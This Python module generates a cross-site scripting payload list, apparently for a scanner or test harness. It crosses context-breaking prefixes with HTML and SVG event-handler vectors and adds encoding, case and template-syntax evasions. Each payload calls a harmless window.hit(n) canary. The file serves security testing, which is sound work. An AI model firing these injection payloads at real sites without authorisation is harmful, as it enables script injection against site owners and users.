"""Payloads of cross-site scripting, made from ways to break out of a context and ways to run: over 200 different."""

from __future__ import annotations

RUN = "window.hit({n})"
_VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<img src=x onerror={run}>",
    "<img/src='x'/onerror='{run}'>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<details open ontoggle={run}>x</details>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<video><source onerror={run}></video>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<object data='javascript:{run}'></object>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<template><img src=x onerror={run}></template><img src=y onerror={run}>",
    "<a href='javascript:{run}' id=pulsame>x</a>",
)
_BREAKS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->")
_OTHERS = (
    '" onmouseover={run} x="', '" autofocus onfocus={run} x="', "' autofocus onfocus={run} x='",
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", " javascript:{run}", "data:text/html,<script>{run}</script>",
    "vbscript:{run}", "https://x.mx/' onerror={run} '", "';{run};//", '";{run};//', "`;{run};//", "\\';{run};//",
    "</script><script>{run}//",
    "{{{{ {run} }}}}", "{{% if {run} %}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;", "\\u003cimg src=x onerror={run}\\u003e", "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "<!--><img src=x onerror={run}>", "<![CDATA[<img src=x onerror={run}>]]>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "\ue0000\ue001<img src=x onerror={run}>", "\u2028<img src=x onerror={run}>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return all payloads; number n calls window.hit(n) if it runs, and can be searched for as the word xm<n>."""
    shapes = [b + v for b in _BREAKS for v in _VECTORS] + list(_OTHERS)
    return [
        f"xm{n} " * (not s.lower().lstrip().startswith(("java", "data", "vbs")))
        + s.format(run=RUN.format(n=n))
        for n, s in enumerate(shapes)
    ]
